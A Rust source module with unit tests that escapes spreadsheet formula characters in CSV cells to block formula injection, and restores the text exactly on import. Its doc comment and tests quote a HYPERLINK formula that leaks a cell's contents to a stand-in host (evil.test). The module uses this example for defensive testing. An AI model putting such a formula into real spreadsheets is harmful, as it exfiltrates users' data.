//! Spreadsheet-safe CSV cells, for every CSV Vigía writes and reads back.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
//! formula (tab and carriage return are trimmed first, then the same), so
//! `=HYPERLINK("http://evil.test/?leak="&A2,"Click")` in a case name would
//! be a live link in the analyst's copy. As OWASP recommends, such a cell is
//! written with a leading `'`, which the spreadsheet shows as text; the
//! importer strips it again, so an export imports back to the same data.
//! A cell that already starts with `'` before one of those characters gets
//! one more, so that reading back is exact for every text.

use std::borrow::Cow;

/// The first characters a spreadsheet may read as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn needs_quote(text: &str) -> bool {
    text.trim_start_matches('\'')
        .starts_with(|c| FORMULA_START.contains(&c))
}

/// The cell to write for `text`: `'` in front of what a spreadsheet would
/// run as a formula, the text unchanged otherwise.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    if needs_quote(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text a cell written by [`csv_cell`] stands for: one leading `'`
/// removed where it was put in front of a formula character.
pub fn read_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

/// Writes one record, each cell through [`csv_cell`].
pub fn write_record<'a, W: std::io::Write>(
    out: &mut csv::Writer<W>,
    cells: impl IntoIterator<Item = &'a str>,
) -> csv::Result<()> {
    out.write_record(
        cells
            .into_iter()
            .map(csv_cell)
            .collect::<Vec<_>>()
            .iter()
            .map(|c| c.as_bytes()),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_quoted_and_read_back() {
        for text in [
            "=HYPERLINK(\"http://evil.test/?leak=\"&A2,\"Click\")",
            "+1",
            "-5",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "'=1",
            "''-2",
        ] {
            let cell = csv_cell(text);
            assert!(cell.starts_with('\''), "{text:?} → {cell:?}");
            assert_eq!(read_cell(&cell), text);
        }
        for text in ["Tía María", "", "'quoted'", "a=b", " 5", "'"] {
            assert_eq!(csv_cell(text), text);
            assert_eq!(read_cell(text), text);
        }
    }
}
